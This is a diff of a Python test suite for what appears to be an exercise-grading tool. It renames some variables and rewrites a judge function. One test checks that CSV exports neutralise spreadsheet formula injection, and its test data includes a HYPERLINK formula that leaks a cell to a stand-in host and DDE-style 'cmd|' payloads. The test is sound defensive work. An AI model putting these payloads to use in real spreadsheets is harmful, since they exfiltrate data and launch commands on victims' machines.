@@ -174,14 +174,14 @@ def test_csv_cells_are_spreadsheet_safe_and_numbers_stay_numbers(graded) -> None
         for row in rows:
             for cell in row:
                 assert not cell.startswith(FORMULA), (name, cell)
-    rows = list(csv.DictReader(io.StringIO((graded["out"] / "grades.csv").read_text("utf-8"))))
-    by = {r["student"]: r for r in rows}
+    table = csv.DictReader(io.StringIO((graded["out"] / "grades.csv").read_text("utf-8")))
+    by = {r["student"]: r for r in table}
     assert "'=HYPERLINK(\"https:example.invalid?leak=\"&A1,\"regrade\")" in by
     assert "'@SUM(1+1)*cmd|' -c calc'!A0" in by and "'\\t+cmd|' -c calc'!A0-1" not in by
     assert "\\t+cmd|' -c calc'!A0-1" in by  # the tab is shown, not kept
     for name in HONEST:
-        row = by[SHOWN.get(name, name)]
-        assert int(row["total"]) == TOTAL and int(row["max_score"]) == TOTAL
+        line = by[SHOWN.get(name, name)]
+        assert int(line["total"]) == TOTAL and int(line["max_score"]) == TOTAL
     moodle = list(csv.reader(io.StringIO((graded["out"] / "moodle.csv").read_text("utf-8"))))
     grades = {row[0]: row for row in moodle[1:]}
     for name in MATCHED:  # ADA in the roster is the folder ada
@@ -331,7 +331,9 @@ def test_a_judge_that_raises_fails_only_its_case() -> None:
     original = BY_NAME["next_roles"]
 
     def judge(args: Any, expected: Any, value: Any) -> str | None:
-        return None if value == expected else {value: 1} and "wrong"  # hashes the answer
+        if value == expected:
+            return None
+        return "wrong" if {value: 1} else None  # hashes the answer: a list raises TypeError
 
     kata = dataclasses.replace(original, judge=judge)
     cases = list(kata.public)[:2]
